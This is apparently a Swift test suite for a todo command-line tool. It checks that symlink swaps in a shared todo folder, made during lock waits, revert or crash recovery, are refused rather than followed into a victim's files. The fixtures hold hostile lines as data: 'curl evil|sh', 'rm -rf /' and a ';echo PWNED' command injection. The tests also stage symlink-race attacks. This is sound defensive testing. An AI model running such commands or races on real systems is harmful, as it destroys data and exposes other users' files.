import Foundation
import Testing
import TodoTestSupport

@testable import TodoCLI

/// Links swapped into a shared todo folder after todo checked it: what todo reads, appends to,
/// rewrites or cuts back is checked where it is opened, so a link that leads out of the folder
/// is refused also when it appears while todo waits for the lock, or after a command, before
/// its `revert`. And the default place of a file is judged by the real folder, however the
/// configuration spells it.
@Suite struct LinkRaceTests {
  /// A shared folder `shared` (the todo folder) and the victim's files in `victim`, then
  /// `before`; another user holds the folder's lock. The script then runs `racing COMMAND…`:
  /// the command runs until it finds the lock held, where it stops itself (the fault seam's
  /// `lockHeld` step); meanwhile `swap` runs in the folder, the lock is let go and the command
  /// goes on. Its standard error goes to the file `waiting`; `status N` is its exit status.
  private func race(_ swap: String, before: String = "") -> String {
    """
    mkdir -p shared victim; printf '# victim bashrc\\n' > victim/bashrc
    printf 'secret line\\nsecond secret\\n' > victim/secret; chmod 600 victim/secret
    printf 'task one\\ncurl evil|sh #\\n' > shared/todo.txt
    export TODO_DIR=$PWD/shared
    \(before)
    rm -f waiting go
    flock -x shared sh -c 'until [ -e go ]; do sleep 0.01; done' &
    holder=$!
    until ! flock -n shared true; do sleep 0.01; done
    racing() {
      TODO_TEST_STOP_AT=lockHeld "$@" 2>waiting &
      command=$!
      until [ "$(cut -d' ' -f3 /proc/$command/stat 2>/dev/null)" = T ] \\
        || ! kill -0 $command 2>/dev/null; do sleep 0.01; done
      # Stopped at the step, or the race was not run: said among the lines the tests expect.
      [ "$(cut -d' ' -f3 /proc/$command/stat 2>/dev/null)" = T ] || echo "never stopped"
      (cd shared && \(swap))
      touch go; wait $holder
      kill -CONT $command; wait $command; echo "status $?"
    }

    """
  }

  /// done.txt becomes a link to the victim's .bashrc while `todo do` waits: refused, nothing
  /// written anywhere.
  @Test func doneFileSwappedForALinkWhileWaitingIsRefused() throws {
    let sandbox = try Sandbox()
    defer { sandbox.remove() }
    let result = try sandbox.run(
      race("ln -s ../victim/bashrc done.txt") + """
        racing todo do 2
        wait
        cat waiting >&2
        cat victim/bashrc shared/todo.txt
        """)
    #expect(result.stdout == ["status 1", "# victim bashrc", "task one", "curl evil|sh #"])
    #expect(result.stderr.count == 1)
    let refusal: String =
      "TODO: $HOME/shared/done.txt is a link to $HOME/victim/bashrc, outside the todo"
      + " folder $HOME/shared; a link there may come from whoever shares the folder, so todo"
      + " does not follow it. To allow it, set TODOTXT_ALLOW_LINKS=$HOME/victim/bashrc (in the"
      + " environment or todo.cfg)."
    #expect(result.stderr.last == refusal)
  }

  /// todo.txt becomes a link to the victim's private file while `todo do` waits: it is not
  /// read (its first line would go to the shared done.txt) nor rewritten.
  @Test func todoFileSwappedForALinkWhileWaitingIsNotRead() throws {
    let sandbox = try Sandbox()
    defer { sandbox.remove() }
    let result = try sandbox.run(
      race("rm todo.txt; ln -s ../victim/secret todo.txt") + """
        racing todo do 1
        wait
        cat waiting >&2
        cat victim/secret; ls shared; stat -c %a victim/secret
        """)
    #expect(
      result.stdout == ["status 1", "secret line", "second secret", "todo.txt", "600"])
    #expect(
      result.stderr.last?.hasPrefix(
        "TODO: $HOME/shared/todo.txt is a link to $HOME/victim/secret, outside") == true)
  }

  /// Root runs `todo archive` on a folder another user (nobody) may write, and that user
  /// swaps done.txt for a link to a root-only file while root waits for the lock: refused.
  @Test(.enabled(if: getuid() == 0, "needs root (the other user is nobody)"))
  func anotherUserCannotMakeRootAppendToItsFiles() throws {
    let sandbox = try Sandbox()
    defer { sandbox.remove() }
    let result = try sandbox.run(
      """
      mkdir -m 777 shared; mkdir -m 700 victim; printf 'root only\\n' > victim/shadow
      printf 'x 2026-11-01 cron: rm -rf /\\n' > shared/todo.txt; chmod 666 shared/todo.txt
      export TODO_DIR=$PWD/shared
      rm -f waiting released
      setpriv --reuid=65534 --regid=65534 --clear-groups flock -x shared sh -c \\
        'until [ -s waiting ] || [ -e released ]; do sleep 0.02; done; ln -s ../victim/shadow shared/done.txt' &
      until ! flock -n shared true; do sleep 0.02; done
      todo archive 2>waiting; echo "status $?"; touch released
      wait
      cat waiting >&2
      cat victim/shadow
      """)
    #expect(result.stdout == ["status 1", "root only"])
    #expect(result.stderr.last?.hasPrefix("TODO: $HOME/shared/done.txt is a link to") == true)
  }

  /// report.txt swapped for a link while `todo report` waits.
  @Test func reportFileSwappedWhileWaitingIsRefused() throws {
    let sandbox = try Sandbox()
    defer { sandbox.remove() }
    let result = try sandbox.run(
      race("ln -s ../victim/bashrc report.txt") + """
        racing todo report
        wait
        cat waiting >&2
        cat victim/bashrc shared/todo.txt
        """)
    #expect(result.stdout == ["status 1", "# victim bashrc", "task one", "curl evil|sh #"])
    #expect(result.stderr.last?.hasPrefix("TODO: $HOME/shared/report.txt is a link to") == true)
  }

  /// A `mv` destination, checked before the lock, swapped for a link while `todo mv` waits.
  @Test func moveDestinationSwappedWhileWaitingIsRefused() throws {
    let sandbox = try Sandbox()
    defer { sandbox.remove() }
    let result = try sandbox.run(
      race(
        "rm other.txt && ln -s ../victim/bashrc other.txt",
        before: "printf 'other\\n' > shared/other.txt")
          + """
          racing todo -f mv 1 other.txt
          wait
          cat waiting >&2
          cat victim/bashrc shared/todo.txt
          """)
    #expect(result.stdout == ["status 1", "# victim bashrc", "task one", "curl evil|sh #"])
    #expect(result.stderr.last?.hasPrefix("TODO: $HOME/shared/other.txt is a link to") == true)
  }

  /// `revert` after a `mv` whose destination became a link to a file of the same length:
  /// refused, the linked file is not cut.
  @Test func revertDoesNotCutAFileThroughASwappedDestination() throws {
    let sandbox = try Sandbox()
    defer { sandbox.remove() }
    let result = try sandbox.run(
      """
      mkdir -p shared victim; export TODO_DIR=$PWD/shared
      printf 'a task to move\\n' > shared/todo.txt; printf 'x\\n' > shared/other.txt
      todo -f mv 1 other.txt >/dev/null
      printf 'victim notes 012\\n' > victim/notes
      wc -c < shared/other.txt; wc -c < victim/notes
      rm shared/other.txt; ln -s ../victim/notes shared/other.txt
      cp shared/todo.txt before
      todo revert; echo "status $?"
      cat victim/notes; cmp before shared/todo.txt && echo same
      """)
    #expect(
      result.stdout == ["17", "17", "status 1", "victim notes 012", "same"])
    #expect(result.stderr.count == 1)
    #expect(result.stderr.first?.hasPrefix("TODO: $HOME/shared/other.txt changed since") == true)
  }

  /// The undo of an append (by `revert` and by the recovery of a killed command) takes out
  /// only the appended bytes: not through a link, not bytes of the same length that another
  /// file put at its path has instead.
  @Test func takingAnAppendBackCutsOnlyTheAppendedFile() throws {
    let sandbox = try Sandbox()
    defer { sandbox.remove() }
    let dir = sandbox.directory.path
    let victim = dir + "/victim"
    let appended = dir + "/done.txt"
    let second = Array("second\n".utf8)
    try Data("0123456789\n".utf8).write(to: URL(fileURLWithPath: victim))
    try Data("first\nsecond\n".utf8).write(to: URL(fileURLWithPath: appended))
    var st = stat()
    #expect(stat(appended, &st) == 0)
    let append = Backups.SideAppend(
      path: appended, before: 6, after: 13, device: UInt64(st.st_dev), inode: UInt64(st.st_ino),
      bytes: second)
    // Another file of the same length put at the path (the old one kept: its inode is not
    // reused), without the appended line.
    rename(appended, dir + "/kept")
    try Data("first\nsecanD\n".utf8).write(to: URL(fileURLWithPath: appended))
    #expect(EditSession.takeBack(append) == .absent)
    #expect(try String(contentsOfFile: appended, encoding: .utf8) == "first\nsecanD\n")
    // A link to a file that ends with the appended bytes.
    unlink(appended)
    try Data("01234second\n".utf8).write(to: URL(fileURLWithPath: victim))
    symlink(victim, appended)
    #expect(
      EditSession.takeBack(Backups.SideAppend(path: appended, before: 5, after: 12, bytes: second))
        == .failed)
    #expect(
      EditSession.takeBack(
        Backups.SideAppend(
          path: appended, before: 0, after: 12, created: true,
          bytes: Array("01234second\n".utf8))) == .failed)
    #expect(try String(contentsOfFile: victim, encoding: .utf8) == "01234second\n")
    #expect(System.isSymbolicLink(appended))
    // The file itself is cut back.
    unlink(appended)
    try Data("first\nsecond\n".utf8).write(to: URL(fileURLWithPath: appended))
    #expect(stat(appended, &st) == 0)
    #expect(
      EditSession.takeBack(
        Backups.SideAppend(
          path: appended, before: 6, after: 13, device: UInt64(st.st_dev),
          inode: UInt64(st.st_ino), bytes: second)) == .removed)
    #expect(try String(contentsOfFile: appended, encoding: .utf8) == "first\n")
    // A record without the appended bytes (from before they were kept) is never cut by size.
    try Data("first\nsecond\n".utf8).write(to: URL(fileURLWithPath: appended))
    #expect(stat(appended, &st) == 0)
    #expect(
      EditSession.takeBack(
        Backups.SideAppend(
          path: appended, before: 6, after: 13, device: UInt64(st.st_dev),
          inode: UInt64(st.st_ino))) == .failed)
    #expect(try String(contentsOfFile: appended, encoding: .utf8) == "first\nsecond\n")
  }

  /// A killed `mv` leaves its journal; before the next command recovers, the destination
  /// becomes a link to a file of the appended length: the recovery does not cut it.
  @Test func recoveryDoesNotCutAFileThroughASwappedDestination() throws {
    let sandbox = try Sandbox()
    defer { sandbox.remove() }
    let session = EditSessionTests()
    let dir = sandbox.directory.path
    try session.write(sandbox, "todo.txt", "move me\nstay\n")
    try session.write(sandbox, "other.txt", "x\n")
    let journal =
      Backups(for: dir + "/todo.txt", environment: sandbox.environment).directory + "/"
      + EditSession.journalName
    // The rename of todo.txt fails after the append to other.txt: the journal, as a killed
    // command would leave it, is kept aside before the failure removes it.
    let faults = FaultPlan()
    faults.failRename = 1
    var kept: Data?
    faults.beforeFinalCheck = { kept = try? Data(contentsOf: URL(fileURLWithPath: journal)) }
    #expect(try session.run(sandbox, ["-f", "mv", "1", "other.txt"], faults: faults).status == 1)
    try #require(kept).write(to: URL(fileURLWithPath: journal))
    // other.txt grew from 2 to 10 bytes; a file of 10 bytes elsewhere takes its place.
    try session.write(sandbox, "victim", "victim 12\n")
    unlink(dir + "/other.txt")
    symlink(dir + "/victim", dir + "/other.txt")
    let result = try session.run(sandbox, ["pri", "2", "A"])
    #expect(result.status == 0)
    #expect(session.bytes(sandbox, "victim") == Array("victim 12\n".utf8))
    #expect(session.bytes(sandbox, "todo.txt") == Array("move me\n(A) stay\n".utf8))
  }

  /// A configuration that spells the default place differently (`$TODO_DIR/` and
  /// `${TODO_DIR}done.txt`, or `./done.txt`) still gets the link check.
  @Test(arguments: [
    "export TODO_DIR=\"$HOME/Dropbox/todo/\"\\nexport TODO_FILE=\"${TODO_DIR}todo.txt\"\\n"
      + "export DONE_FILE=\"${TODO_DIR}done.txt\"\\n",
    "export TODO_DIR=\"$HOME/Dropbox/todo\"\\nexport DONE_FILE=\"$HOME/Dropbox/todo/./done.txt\"\\n",
    "export TODO_DIR=\"$HOME/Dropbox//todo\"\\nexport DONE_FILE=\"$HOME/Dropbox/todo/done.txt\"\\n",
  ])
  func defaultPlaceSpelledDifferentlyIsStillChecked(config: String) throws {
    let sandbox = try Sandbox()
    defer { sandbox.remove() }
    let result = try sandbox.run(
      """
      mkdir -p Dropbox/todo; printf '# rc\\n' > bashrc
      printf 'x 2026-01-01 ;echo PWNED\\n' > Dropbox/todo/todo.txt
      ln -s ../../bashrc Dropbox/todo/done.txt
      printf '\(config)' > .todo.cfg
      todo archive; echo "status $?"
      cat bashrc
      """)
    #expect(result.stdout == ["status 1", "# rc"])
    #expect(
      result.stderr.first?.contains("is a link to $HOME/bashrc, outside the todo folder") == true)
  }
}
